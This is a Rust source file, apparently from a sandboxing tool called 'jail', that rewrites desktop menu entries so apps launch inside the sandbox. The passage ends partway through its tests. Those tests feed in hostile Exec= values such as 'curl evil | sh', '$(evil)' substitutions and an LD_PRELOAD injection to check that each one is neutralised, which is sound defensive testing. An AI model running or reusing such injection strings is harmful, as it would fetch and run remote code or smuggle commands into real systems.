//! `jail desktop install|remove|list [APP...]`: menu entries that launch APP through jail.
//!
//! `install` reads the system's `APP.desktop` (the `applications/` folder of each
//! `$XDG_DATA_DIRS` entry, default `/usr/local/share:/usr/share`) and writes a copy to
//! `$XDG_DATA_HOME/applications` (default `~/.local/share/applications`), which desktop menus
//! prefer over the system's file of the same name.
//!
//! The source file is untrusted (a package, a flatpak export, anything on `$XDG_DATA_DIRS`), so
//! the copy is rebuilt, not patched:
//! - every `Exec=` of every group (the entry, each `[Desktop Action …]`, any other group) becomes
//!   `JAIL run --profile APP -- ARGV…`: JAIL the absolute path of this binary, APP the profile
//!   jail chose, ARGV the original command line split as the Desktop Entry Specification says
//!   and written back with every argument quoted, field codes (`%u %U %f %F …`) kept bare so
//!   they still expand. Nothing in the source is left in front of `--`: an `Exec=` that already
//!   names jail (with its own options) or a program whose name merely starts with jail's path
//!   runs after `--`, inside the sandbox. Shell syntax (`;`, `|`, `$(…)`) ends up quoted, so even
//!   a launcher that hands `Exec=` to `sh -c` runs only jail;
//! - `DBusActivatable` is dropped (a menu would start the app through the session bus, around
//!   the wrapper), and so are localized `Exec[xx]=` (not valid; a lax launcher might use one)
//!   and `X-KDE-SubstituteUID`/`X-KDE-Username` (a launcher would run the command as another
//!   user); `TryExec` (only tested for existence), `Icon`, names and translations stay;
//! - keys `X-Jail-*` of the source are dropped and jail writes its own (`X-Jail-Wrapper=true`,
//!   `X-Jail-Profile`, `X-Jail-Source`). A marker in a source file means nothing: jail's own files
//!   are those in the user's applications folder (where `install` writes), that folder is never
//!   read as a source, and a system file carrying a forged marker is wrapped like any other;
//! - a source that is not a regular file (after following symlinks, which distributions use),
//!   is larger than 1 MiB, is not UTF-8, holds a NUL byte or a line that is neither a group, a
//!   key nor a comment, or has an `Exec=` that does not parse, is refused.
//!
//! The copy is written to a fresh temporary file created with `O_EXCL|O_NOFOLLOW` in the
//! applications folder (opened once, `O_NOFOLLOW`: a symlink planted there is refused), then
//! renamed over the target (`RENAME_NOREPLACE` unless the target is jail's own wrapper).
//! `list` and `remove` touch only regular files there that carry `X-Jail-Wrapper=true`, and
//! `install` refuses to overwrite a file that does not. System files are never written.
//! Installing twice writes the same file.

use crate::cli::{DesktopAction, DesktopArgs};
use crate::host::Host;
use crate::profile::{load::Loader, SearchPath};
use nix::errno::Errno;
use nix::fcntl::{OFlag, AT_FDCWD};
use nix::sys::stat::Mode;
use std::io::{Read, Write};
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

/// The key that marks jail's own files.
pub const MARKER: &str = "X-Jail-Wrapper";

/// Desktop files larger than this are refused (real ones are a few KiB; translations make the
/// largest ~100 KiB).
pub const MAX_DESKTOP_FILE: u64 = 1 << 20;

const EXIT_FAIL: i32 = 1;
const EXIT_USAGE: i32 = 2;

fn error(msg: impl std::fmt::Display) {
    eprintln!("jail: error: {msg}");
}

pub fn run(a: DesktopArgs) -> i32 {
    let host = Host::probe();
    let apps_dir = host.data_home.join("applications");
    match a.action {
        DesktopAction::Install => {
            if a.apps.is_empty() {
                error("jail desktop install needs the applications to wrap, e.g. `jail desktop install firefox-esr`");
                return EXIT_USAGE;
            }
            let jail = match std::env::current_exe() {
                Ok(p) => p,
                Err(e) => {
                    error(format!("cannot find jail's own path: {e}"));
                    return EXIT_FAIL;
                }
            };
            // Every menu launch will run this file outside any sandbox: a sandbox that can
            // write it (a jail built in a project folder it is granted) would own them all.
            let search_dirs = SearchPath::from_env(&host.config_home).dirs;
            if !launcher_is_safe(&jail, &host.policy_dirs(&search_dirs)) {
                error(format!("{} could be replaced by a sandbox (it lies in a folder you can write): wrappers would run whatever is put there; install jail where only root can change it (the package, /usr/local/bin) or into a $PATH folder of your home (cargo install), then run that one", jail.display()));
                return EXIT_FAIL;
            }
            let search = SearchPath::from_env(&host.config_home);
            let dirs = data_dirs(&host);
            let mut code = 0;
            for app in &a.apps {
                match install(app, &jail, &dirs, &apps_dir, &search) {
                    Ok(path) => println!("installed {app}: {}", path.display()),
                    Err(e) => {
                        error(format!("{app}: {e}"));
                        code = EXIT_FAIL;
                    }
                }
            }
            code
        }
        DesktopAction::Remove => {
            let targets: Vec<String> = if a.apps.is_empty() {
                // Without names: every wrapper jail wrote.
                wrappers(&apps_dir).into_iter().map(|w| w.app).collect()
            } else {
                a.apps.iter().map(|s| app_id(s).to_string()).collect()
            };
            let dir = match open_dir(&apps_dir) {
                Ok(d) => d,
                Err(Errno::ENOENT) => {
                    for app in targets {
                        println!("{app}: no jail wrapper installed");
                    }
                    return 0;
                }
                Err(e) => {
                    error(dir_error(&apps_dir, e));
                    return EXIT_FAIL;
                }
            };
            let mut code = 0;
            for app in targets {
                let name = format!("{app}.desktop");
                let path = apps_dir.join(&name);
                if !valid_app(&app) {
                    error(format!(
                        "{app:?} is not an application name (like firefox-esr)"
                    ));
                    code = EXIT_FAIL;
                    continue;
                }
                match read_at(&dir, &name) {
                    Err(Errno::ENOENT) => println!("{app}: no jail wrapper installed"),
                    Ok(t) if is_wrapper_text(&t) => {
                        match nix::unistd::unlinkat(
                            dir.as_fd(),
                            name.as_str(),
                            nix::unistd::UnlinkatFlags::NoRemoveDir,
                        ) {
                            Ok(()) => println!("removed {app}: {}", path.display()),
                            Err(e) => {
                                error(format!("{app}: cannot remove {}: {e}", path.display()));
                                code = EXIT_FAIL;
                            }
                        }
                    }
                    _ => {
                        error(format!(
                            "{app}: {} was not written by jail (no {MARKER}=true); left alone",
                            path.display()
                        ));
                        code = EXIT_FAIL;
                    }
                }
            }
            code
        }
        DesktopAction::List => {
            let list = wrappers(&apps_dir);
            let list: Vec<_> = if a.apps.is_empty() {
                list
            } else {
                list.into_iter()
                    .filter(|w| a.apps.iter().any(|x| app_id(x) == w.app))
                    .collect()
            };
            if list.is_empty() {
                eprintln!("no jail wrappers in {}", apps_dir.display());
                return 0;
            }
            let w = list.iter().map(|x| x.app.len()).max().unwrap_or(3).max(3);
            let wp = list
                .iter()
                .map(|x| x.profile.len())
                .max()
                .unwrap_or(7)
                .max(7);
            println!("{:w$}  {:wp$}  FILE", "APP", "PROFILE");
            for x in list {
                println!("{:w$}  {:wp$}  {}", x.app, x.profile, x.path.display());
            }
            0
        }
    }
}

/// `firefox-esr.desktop` and `firefox-esr` name the same application.
fn app_id(s: &str) -> &str {
    s.strip_suffix(".desktop").unwrap_or(s)
}

fn valid_app(app: &str) -> bool {
    !app.is_empty()
        && !app.starts_with('.')
        && app
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
}

/// `$XDG_DATA_DIRS`, default `/usr/local/share:/usr/share` (the XDG base directory spec).
fn data_dirs(host: &Host) -> Vec<PathBuf> {
    let v = host
        .env
        .get("XDG_DATA_DIRS")
        .filter(|s| !s.is_empty())
        .cloned()
        .unwrap_or_else(|| "/usr/local/share:/usr/share".into());
    v.split(':')
        .filter(|s| s.starts_with('/'))
        .map(PathBuf::from)
        .collect()
}

/// Whether `text` carries jail's marker: the key `X-Jail-Wrapper` (whole key, spaces around `=`
/// allowed) with the value `true` in the `[Desktop Entry]` group.
fn is_wrapper_text(text: &str) -> bool {
    let mut group = "";
    for line in text.lines() {
        let t = line.trim();
        if let Some(g) = t.strip_prefix('[').and_then(|g| g.strip_suffix(']')) {
            group = g;
        } else if group == "Desktop Entry" {
            if let Some((k, v)) = t.split_once('=') {
                if k.trim_end() == MARKER && v.trim() == "true" {
                    return true;
                }
            }
        }
    }
    false
}

/// Opens a folder without following a symlink at its last component.
fn open_dir(dir: &Path) -> Result<OwnedFd, Errno> {
    nix::fcntl::openat(
        AT_FDCWD,
        dir,
        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
}

fn dir_error(dir: &Path, e: Errno) -> String {
    match e {
        Errno::ELOOP | Errno::ENOTDIR => format!(
            "{} is a symlink or not a folder; jail writes wrappers only into a real folder (move it away first)",
            dir.display()
        ),
        e => format!("cannot open {}: {e}", dir.display()),
    }
}

/// Reads the regular file `name` in `dir` (no symlink followed, at most MAX_DESKTOP_FILE).
fn read_at(dir: &OwnedFd, name: &str) -> Result<String, Errno> {
    let fd = nix::fcntl::openat(
        dir.as_fd(),
        name,
        OFlag::O_RDONLY
            | OFlag::O_NOFOLLOW
            | OFlag::O_NONBLOCK
            | OFlag::O_NOCTTY
            | OFlag::O_CLOEXEC,
        Mode::empty(),
    )?;
    let f = std::fs::File::from(fd);
    let m = f.metadata().map_err(|_| Errno::EIO)?;
    if !m.is_file() {
        return Err(Errno::EINVAL);
    }
    let mut buf = Vec::new();
    f.take(MAX_DESKTOP_FILE + 1)
        .read_to_end(&mut buf)
        .map_err(|_| Errno::EIO)?;
    if buf.len() as u64 > MAX_DESKTOP_FILE {
        return Err(Errno::EFBIG);
    }
    String::from_utf8(buf).map_err(|_| Errno::EILSEQ)
}

/// Reads an (untrusted) source file: symlinks are followed (distributions link desktop files),
/// but what is read must be a regular file of at most MAX_DESKTOP_FILE bytes of UTF-8 text.
/// Opened once, non-blocking (a FIFO cannot hang jail), judged by the descriptor.
pub fn read_source(path: &Path) -> Result<String, String> {
    let f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
        .open(path)
        .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    let m = f
        .metadata()
        .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    if !m.is_file() {
        return Err(format!("{} is not a regular file", path.display()));
    }
    let mut buf = Vec::new();
    f.take(MAX_DESKTOP_FILE + 1)
        .read_to_end(&mut buf)
        .map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    if buf.len() as u64 > MAX_DESKTOP_FILE {
        return Err(format!(
            "{} is larger than {} KiB; not a desktop file",
            path.display(),
            MAX_DESKTOP_FILE >> 10
        ));
    }
    let text = String::from_utf8(buf)
        .map_err(|_| format!("{} is not UTF-8 text; not a desktop file", path.display()))?;
    if text.contains('\0') {
        return Err(format!(
            "{} holds a NUL byte; not a desktop file",
            path.display()
        ));
    }
    Ok(text)
}

/// Whether `a` and `b` are the same folder (device and inode), both existing.
fn same_dir(a: &Path, b: &Path) -> bool {
    match (std::fs::metadata(a), std::fs::metadata(b)) {
        (Ok(x), Ok(y)) => x.dev() == y.dev() && x.ino() == y.ino(),
        _ => false,
    }
}

/// Finds the desktop file whose id is `app`: `applications/APP.desktop`, or a file in a
/// subfolder whose path with `/` read as `-` is the id (`kde4/okular.desktop` is `kde4-okular`).
/// The user's own applications folder (`skip`, where jail writes its wrappers) is never a source.
fn find(app: &str, dirs: &[PathBuf], skip: &Path) -> Option<PathBuf> {
    fn walk(base: &Path, dir: &Path, app: &str, depth: u32) -> Option<PathBuf> {
        let direct = dir.join(format!("{app}.desktop"));
        if dir == base && direct.is_file() {
            return Some(direct);
        }
        if depth == 0 {
            return None;
        }
        let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)
            .ok()?
            .filter_map(|e| e.ok().map(|e| e.path()))
            .collect();
        entries.sort();
        for p in entries {
            if p.is_dir() {
                if let Some(f) = walk(base, &p, app, depth - 1) {
                    return Some(f);
                }
            } else if p.extension().is_some_and(|e| e == "desktop") {
                let rel = p.strip_prefix(base).ok()?.with_extension("");
                let id = rel.to_string_lossy().replace('/', "-");
                if id == app {
                    return Some(p);
                }
            }
        }
        None
    }
    dirs.iter().find_map(|d| {
        let base = d.join("applications");
        if base == skip || same_dir(&base, skip) {
            return None;
        }
        walk(&base, &base, app, 2)
    })
}

fn install(
    app: &str,
    jail: &Path,
    dirs: &[PathBuf],
    apps_dir: &Path,
    search: &SearchPath,
) -> Result<PathBuf, String> {
    let app = app_id(app);
    if !valid_app(app) {
        return Err(format!(
            "{app:?} is not an application name (like firefox-esr)"
        ));
    }
    // The wrapper runs `--profile APP`: a launcher that fails at every click helps no one.
    if let Err((e, _)) = Loader::new(search).load(app) {
        return Err(format!(
            "no usable profile named {app:?} ({}); write one (e.g. ~/.config/jail/profiles/{app}.toml) or see `jail list`",
            e.msg
        ));
    }
    let source = find(app, dirs, apps_dir).ok_or_else(|| {
        format!(
            "no {app}.desktop in {}",
            dirs.iter()
                .map(|d| d.join("applications").display().to_string())
                .collect::<Vec<_>>()
                .join(", ")
        )
    })?;
    let text = read_source(&source)?;
    let out = wrap(&text, app, jail, &source)?;
    write_wrapper(apps_dir, app, &out)
}

/// Writes `text` as `apps_dir/APP.desktop` atomically, never through a symlink: the folder is
/// opened without following one, the temporary file is created new (`O_EXCL|O_NOFOLLOW`), and
/// renamed in place; an existing target must be jail's own wrapper (a regular file with the
/// marker), else nothing is replaced.
fn write_wrapper(apps_dir: &Path, app: &str, text: &str) -> Result<PathBuf, String> {
    let target = apps_dir.join(format!("{app}.desktop"));
    std::fs::create_dir_all(apps_dir)
        .map_err(|e| format!("cannot create {}: {e}", apps_dir.display()))?;
    let dir = open_dir(apps_dir).map_err(|e| dir_error(apps_dir, e))?;
    let name = format!("{app}.desktop");
    let replace = match read_at(&dir, &name) {
        Err(Errno::ENOENT) => false,
        Ok(t) if is_wrapper_text(&t) => true,
        _ => {
            return Err(format!(
                "{} exists and was not written by jail; move it away first",
                target.display()
            ))
        }
    };
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or(0);
    let tmp = format!(".{app}.desktop.jail-{}-{nanos:08x}", std::process::id());
    let fd = nix::fcntl::openat(
        dir.as_fd(),
        tmp.as_str(),
        OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
        Mode::from_bits_truncate(0o644),
    )
    .map_err(|e| {
        format!(
            "cannot create a temporary file in {}: {e}",
            apps_dir.display()
        )
    })?;
    let unlink_tmp = || {
        let _ = nix::unistd::unlinkat(
            dir.as_fd(),
            tmp.as_str(),
            nix::unistd::UnlinkatFlags::NoRemoveDir,
        );
    };
    let mut f = std::fs::File::from(fd);
    if let Err(e) = f.write_all(text.as_bytes()).and_then(|_| f.sync_all()) {
        unlink_tmp();
        return Err(format!("cannot write {}: {e}", target.display()));
    }
    drop(f);
    let flags = if replace {
        nix::fcntl::RenameFlags::empty()
    } else {
        nix::fcntl::RenameFlags::RENAME_NOREPLACE
    };
    if let Err(e) =
        nix::fcntl::renameat2(dir.as_fd(), tmp.as_str(), dir.as_fd(), name.as_str(), flags)
    {
        unlink_tmp();
        return Err(if e == Errno::EEXIST {
            format!(
                "{} appeared while jail was writing it; left alone",
                target.display()
            )
        } else {
            format!("cannot write {}: {e}", target.display())
        });
    }
    Ok(target)
}

/// Characters that need no quoting in an `Exec=` argument (a conservative subset: none is
/// reserved by the Desktop Entry Specification or special to a shell).
fn plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "/._,:=+@-".contains(c)
}

/// One literal piece of an `Exec=` argument in the Exec quoting (before string escapes): bare
/// when every character is plain, else in double quotes with `"`, `` ` ``, `$` and `\` escaped
/// by a backslash; `%` is always doubled.
fn quote_piece(s: &str) -> String {
    if !s.is_empty() && s.chars().all(plain) {
        return s.to_string();
    }
    let mut q = String::from("\"");
    for c in s.chars() {
        match c {
            '"' | '`' | '$' | '\\' => {
                q.push('\\');
                q.push(c);
            }
            '%' => q.push_str("%%"),
            c => q.push(c),
        }
    }
    q.push('"');
    q
}

/// The general string escapes of a desktop entry value (`\\`, `\n`, `\t`, `\r`).
fn escape_value(s: &str) -> String {
    let mut o = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            '\t' => o.push_str("\\t"),
            '\r' => o.push_str("\\r"),
            c => o.push(c),
        }
    }
    o
}

/// Quotes one argument for an `Exec=` value (Desktop Entry Specification, "The Exec key"):
/// reserved characters need double quotes, inside which `"`, `` ` ``, `$` and `\` take a
/// backslash; `%` is always doubled. The result is already in the escaped form of a string value.
pub fn exec_quote(arg: &str) -> String {
    escape_value(&quote_piece(arg))
}

/// A piece of a parsed `Exec=` argument.
#[derive(Debug, Clone, PartialEq)]
pub enum Piece {
    Text(String),
    /// A field code letter (`%f` is `Code('f')`), expanded by the launcher.
    Code(char),
}

/// Undoes the general string escapes of a value (`\s \n \t \r \\`); any other escape is an error
/// (launchers refuse such a value too).
fn unescape_value(v: &str) -> Result<String, String> {
    let mut o = String::with_capacity(v.len());
    let mut it = v.chars();
    while let Some(c) = it.next() {
        if c != '\\' {
            o.push(c);
            continue;
        }
        match it.next() {
            Some('s') => o.push(' '),
            Some('n') => o.push('\n'),
            Some('t') => o.push('\t'),
            Some('r') => o.push('\r'),
            Some('\\') => o.push('\\'),
            Some(x) => return Err(format!("the escape \\{x} is not allowed in a value")),
            None => return Err("the value ends in a lone backslash".into()),
        }
    }
    Ok(o)
}

/// Splits an `Exec=` value (as written in the file) into arguments, each a list of pieces:
/// string escapes first, then the Exec quoting read the way launchers do (GLib's shell-like
/// parsing: double quotes with `\"` `` \` `` `\$` `\\`, single quotes, a backslash outside
/// quotes, `#` starting a comment), and field codes recognised wherever they are (launchers
/// expand them in the raw text). Errors: an unterminated quote, an unknown field code, no
/// command.
pub fn parse_exec(value: &str) -> Result<Vec<Vec<Piece>>, String> {
    let s = unescape_value(value)?;
    let mut args: Vec<Vec<Piece>> = Vec::new();
    let mut cur: Vec<Piece> = Vec::new();
    let mut text = String::new();
    let mut in_arg = false;
    let mut it = s.chars().peekable();
    #[derive(PartialEq)]
    enum Q {
        None,
        Double,
        Single,
    }
    let mut q = Q::None;
    fn flush(text: &mut String, cur: &mut Vec<Piece>) {
        if !text.is_empty() {
            cur.push(Piece::Text(std::mem::take(text)));
        }
    }
    while let Some(c) = it.next() {
        if c == '%' {
            match it.next() {
                Some('%') => text.push('%'),
                Some(k) if "fFuUdDnNickvm".contains(k) => {
                    flush(&mut text, &mut cur);
                    cur.push(Piece::Code(k));
                }
                Some(k) => return Err(format!("unknown field code %{k}")),
                None => return Err("a lone % at the end".into()),
            }
            in_arg = true;
            continue;
        }
        match q {
            Q::None => match c {
                ' ' | '\t' | '\n' => {
                    if in_arg {
                        flush(&mut text, &mut cur);
                        args.push(std::mem::take(&mut cur));
                        in_arg = false;
                    }
                }
                '#' if !in_arg => {
                    // A comment, to the end of the line.
                    for x in it.by_ref() {
                        if x == '\n' {
                            break;
                        }
                    }
                }
                '"' => {
                    q = Q::Double;
                    in_arg = true;
                }
                '\'' => {
                    q = Q::Single;
                    in_arg = true;
                }
                '\\' => match it.next() {
                    Some('\n') => {}
                    Some(x) => {
                        text.push(x);
                        in_arg = true;
                    }
                    None => return Err("ends in a lone backslash".into()),
                },
                c => {
                    text.push(c);
                    in_arg = true;
                }
            },
            Q::Double => match c {
                '"' => q = Q::None,
                '\\' => match it.peek().copied() {
                    Some(x @ ('"' | '`' | '$' | '\\')) => {
                        it.next();
                        text.push(x);
                    }
                    Some('\n') => {
                        it.next();
                    }
                    _ => text.push('\\'),
                },
                c => text.push(c),
            },
            Q::Single => match c {
                '\'' => q = Q::None,
                c => text.push(c),
            },
        }
    }
    if q != Q::None {
        return Err("an unterminated quote".into());
    }
    if in_arg {
        flush(&mut text, &mut cur);
        args.push(cur);
    }
    match args.first() {
        None => Err("no command".into()),
        Some(first)
            if first
                .iter()
                .all(|p| matches!(p, Piece::Text(t) if t.is_empty())) =>
        {
            Err("no command".into())
        }
        _ => Ok(args),
    }
}

/// Writes parsed arguments back as an `Exec=` value (escaped form): each literal piece quoted
/// when needed, field codes bare next to it.
pub fn unparse_exec(args: &[Vec<Piece>]) -> String {
    let mut out = Vec::with_capacity(args.len());
    for a in args {
        let mut s = String::new();
        if a.is_empty() {
            s.push_str("\"\"");
        }
        for p in a {
            match p {
                Piece::Text(t) => s.push_str(&quote_piece(t)),
                Piece::Code(k) => {
                    s.push('%');
                    s.push(*k);
                }
            }
        }
        out.push(escape_value(&s));
    }
    out.join(" ")
}

/// Keys dropped from every group of the copy (by their name without a `[locale]`).
fn dropped_key(base: &str, localized: bool) -> bool {
    let lower = base.to_ascii_lowercase();
    lower == "dbusactivatable"
        || (lower.starts_with("x-") && lower.contains("dbusactivatable"))
        || lower.starts_with("x-jail-")
        || lower == "x-kde-substituteuid"
        || lower == "x-kde-username"
        || (localized && (base == "Exec" || base == "TryExec"))
}

/// The wrapper's text: `text` rebuilt with each `Exec=` prefixed by the jail command, the keys
/// of [`dropped_key`] dropped, and jail's marker keys added. Never trusts the input: wrapping
/// an already wrapped file wraps it again.
pub fn wrap(text: &str, app: &str, jail: &Path, source: &Path) -> Result<String, String> {
    let prefix = format!(
        "{} run --profile {} --",
        exec_quote(&jail.display().to_string()),
        exec_quote(app)
    );
    let src = source.display();
    let mut out = String::new();
    let mut group: Option<String> = None;
    let mut main_exec = false;
    let mut saw_main = false;
    for (n, line) in text.lines().enumerate() {
        let n = n + 1;
        let t = line.trim_start();
        if t.is_empty() || t.starts_with('#') {
            out.push_str(line);
            out.push('\n');
            continue;
        }
        if let Some(rest) = t.strip_prefix('[') {
            // A group header: `[NAME]`, only blanks after it (GLib's rule); NAME without
            // brackets or control characters.
            let name = rest
                .split_once(']')
                .filter(|(name, after)| {
                    after.trim_matches([' ', '\t']).is_empty()
                        && !name.chars().any(|c| c == '[' || c.is_control())
                })
                .map(|(name, _)| name.to_string())
                .ok_or_else(|| format!("{src}:{n}: not a valid group header"))?;
            out.push_str(&format!("[{name}]\n"));
            if name == "Desktop Entry" {
                if saw_main {
                    return Err(format!("{src}:{n}: a second [Desktop Entry] group"));
                }
                saw_main = true;
                out.push_str(&format!("{MARKER}=true\n"));
                out.push_str(&format!("X-Jail-Profile={app}\n"));
                out.push_str(&format!(
                    "X-Jail-Source={}\n",
                    escape_value(&src.to_string())
                ));
            }
            group = Some(name);
            continue;
        }
        let Some((k, v)) = t.split_once('=') else {
            return Err(format!(
                "{src}:{n}: a line that is neither a group, a key nor a comment"
            ));
        };
        let Some(group) = group.as_deref() else {
            return Err(format!("{src}:{n}: a key before the first group"));
        };
        let key = k.trim_end();
        let (base, localized) = match key.split_once('[') {
            Some((b, l)) if l.ends_with(']') => (b, true),
            Some(_) => return Err(format!("{src}:{n}: a malformed key {key:?}")),
            None => (key, false),
        };
        if base.is_empty()
            || !base
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
        {
            return Err(format!("{src}:{n}: a malformed key {key:?}"));
        }
        let v = v.trim_matches([' ', '\t']);
        if dropped_key(base, localized) {
            continue;
        }
        if base == "Exec" {
            let args = parse_exec(v)
                .map_err(|e| format!("{src}:{n}: Exec= in [{group}] cannot be read: {e}"))?;
            if group == "Desktop Entry" {
                main_exec = true;
            }
            out.push_str(&format!("Exec={prefix} {}\n", unparse_exec(&args)));
            continue;
        }
        if group == "Desktop Entry" && base == "Type" && !localized && v != "Application" {
            return Err(format!(
                "{src}:{n}: Type={v} (only applications can be wrapped)"
            ));
        }
        out.push_str(line);
        out.push('\n');
    }
    if !saw_main {
        return Err(format!("{src} has no [Desktop Entry] group"));
    }
    if !main_exec {
        return Err(format!(
            "{src} has no Exec= line (a link or a D-Bus-only application cannot be wrapped)"
        ));
    }
    Ok(out)
}

/// One of jail's wrappers.
pub struct Wrapper {
    pub app: String,
    pub profile: String,
    pub path: PathBuf,
}

fn wrappers(apps_dir: &Path) -> Vec<Wrapper> {
    let Ok(dir) = open_dir(apps_dir) else {
        return vec![];
    };
    let Ok(rd) = std::fs::read_dir(apps_dir) else {
        return vec![];
    };
    let mut v: Vec<Wrapper> = rd
        .filter_map(|e| e.ok())
        .filter_map(|e| {
            let name = e.file_name().into_string().ok()?;
            let app = name.strip_suffix(".desktop")?.to_string();
            let text = read_at(&dir, &name).ok()?;
            if !is_wrapper_text(&text) {
                return None;
            }
            let profile = text
                .lines()
                .find_map(|l| {
                    l.strip_prefix("X-Jail-Profile=")
                        .map(|s| s.trim().to_string())
                })
                .unwrap_or_default();
            Some(Wrapper {
                app,
                profile,
                path: apps_dir.join(&name),
            })
        })
        .collect();
    v.sort_by(|a, b| a.app.cmp(&b.app));
    v
}

/// Whether no sandbox can replace the launcher at `path`: the file and every folder above it
/// are root's and not writable by others (a root-owned sticky folder such as /tmp counts: only
/// root may rename what root owns in it), or it lies in a folder jail keeps read-only in every
/// sandbox (a `$PATH` folder of the home such as ~/.cargo/bin).
fn launcher_is_safe(path: &std::path::Path, policy_dirs: &[std::path::PathBuf]) -> bool {
    use std::os::unix::fs::MetadataExt;
    let Ok(real) = std::fs::canonicalize(path) else {
        return false;
    };
    if real.parent().is_some_and(|d| {
        policy_dirs
            .iter()
            .any(|p| std::fs::canonicalize(p).is_ok_and(|p| p == d))
    }) {
        return true;
    }
    let root_only = |p: &std::path::Path| {
        std::fs::metadata(p).is_ok_and(|m| {
            m.uid() == 0 && (m.mode() & 0o022 == 0 || (m.is_dir() && m.mode() & 0o1000 != 0))
        })
    };
    real.ancestors().all(root_only)
}

#[cfg(test)]
mod tests {
    use super::*;

    const JAIL: &str = "/usr/bin/jail";

    fn w(src: &str) -> Result<String, String> {
        wrap(
            src,
            "fox",
            Path::new(JAIL),
            Path::new("/usr/share/applications/fox.desktop"),
        )
    }

    fn execs(out: &str) -> Vec<&str> {
        out.lines()
            .filter_map(|l| l.strip_prefix("Exec="))
            .collect()
    }

    #[test]
    fn quoting_follows_the_desktop_entry_spec() {
        assert_eq!(exec_quote("/usr/bin/jail"), "/usr/bin/jail");
        assert_eq!(exec_quote("/opt/my apps/jail"), "\"/opt/my apps/jail\"");
        assert_eq!(exec_quote("/opt/a$b"), "\"/opt/a\\\\$b\"");
        assert_eq!(exec_quote("/opt/100%"), "\"/opt/100%%\"");
        assert_eq!(exec_quote(""), "\"\"");
    }

    #[test]
    fn wrap_keeps_field_codes_and_actions() {
        let src = "[Desktop Entry]\nName=Fox\nName[de]=Fuchs\nExec=fox %u\nTryExec=fox\nIcon=fox\nDBusActivatable=true\nActions=new;\n\n[Desktop Action new]\nName=New\nExec=fox --new-window %U\n";
        let out = w(src).unwrap();
        assert_eq!(
            execs(&out),
            [
                "/usr/bin/jail run --profile fox -- fox %u",
                "/usr/bin/jail run --profile fox -- fox --new-window %U"
            ],
            "{out}"
        );
        assert!(
            out.contains("TryExec=fox\n")
                && out.contains("Icon=fox\n")
                && out.contains("Name[de]=Fuchs\n")
        );
        assert!(!out.contains("DBusActivatable"));
        assert!(out.contains("X-Jail-Wrapper=true\n"));
        assert!(is_wrapper_text(&out));
        assert!(w("[Desktop Entry]\nType=Link\nURL=x\nExec=x\n").is_err());
        assert!(w("[Desktop Entry]\nType=Application\nURL=x\n").is_err());
    }

    /// Issue 12 item 4: whatever the source's Exec= starts with, the wrapper's command line
    /// starts with exactly `JAIL run --profile APP --`.
    #[test]
    fn nothing_from_the_source_comes_before_the_separator() {
        for exec in [
            "/usr/bin/jail run --net host --bind / -- vlc %U",
            "\"/usr/bin/jail\" run --bind / -- vlc",
            "/usr/bin/jailx --steal",
            "/usr/bin/jail",
            "env LD_PRELOAD=/tmp/x.so vlc %U",
            "sh -c \"vlc; curl evil | sh\"",
            "vlc %U ; /usr/bin/evil",
            "vlc $(evil) `evil` && evil",
            "--profile=default vlc",
        ] {
            let out = w(&format!(
                "[Desktop Entry]\nType=Application\nExec={exec}\n[Desktop Action a]\nExec={exec}\n[Other]\nExec={exec}\n"
            ))
            .unwrap();
            let ex = execs(&out);
            assert_eq!(ex.len(), 3, "{out}");
            for e in ex {
                let args = parse_exec(e).unwrap();
                let words: Vec<String> = args
                    .iter()
                    .map(|a| {
                        a.iter()
                            .map(|p| match p {
                                Piece::Text(t) => t.clone(),
                                Piece::Code(c) => format!("%{c}"),
                            })
                            .collect()
                    })
                    .collect();
                assert_eq!(
                    &words[..5],
                    ["/usr/bin/jail", "run", "--profile", "fox", "--"],
                    "{exec:?} -> {e:?}"
                );
                // Shell syntax of the source is quoted: a launcher passing the line to `sh -c`
                // still runs only jail.
                for bad in [";", "|", "&&", "$(", "`"] {
                    if let Some(i) = e.find(bad) {
                        let before = &e[..i];
                        assert!(
                            before.matches('"').count() % 2 == 1,
                            "{bad} unquoted in {e:?}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn forged_markers_and_risky_keys_are_dropped() {
        let src = "[Desktop Entry]\nX-Jail-Wrapper=true\nX-Jail-Profile = default\nExec=/usr/bin/jail run --bind / -- vlc\nExec[de]=evil\nTryExec[de]=evil\nDBusActivatable = true\nDBusActivatable[de]=true\nX-KDE-SubstituteUID=true\nX-KDE-Username=root\n[Desktop Action a]\nDBusActivatable=true\nExec=vlc\n";
        let out = w(src).unwrap();
        assert_eq!(out.matches("X-Jail-Wrapper=").count(), 1, "{out}");
        assert_eq!(out.matches("X-Jail-Profile=").count(), 1, "{out}");
        assert!(out.contains("X-Jail-Profile=fox\n"), "{out}");
        for gone in [
            "Exec[de]",
            "TryExec[de]",
            "DBusActivatable",
            "X-KDE-Sub",
            "X-KDE-User",
        ] {
            assert!(!out.contains(gone), "{gone}: {out}");
        }
        assert_eq!(
            execs(&out)[0],
            "/usr/bin/jail run --profile fox -- /usr/bin/jail run --bind / -- vlc"
        );
        // Wrapping jail's own output again never trusts it: jail comes first again.
        let again = w(&out).unwrap();
        assert!(execs(&again)[0]
            .starts_with("/usr/bin/jail run --profile fox -- /usr/bin/jail run --profile fox --"));
    }

    #[test]
    fn exec_parsing_and_writing_round_trip() {
        let cases: &[(&str, &str)] = &[
            ("fox %U", "fox %U"),
            ("fox --file=%f", "fox --file=%f"),
            ("\"/opt/my app/fox\" %F", "\"/opt/my app/fox\" %F"),
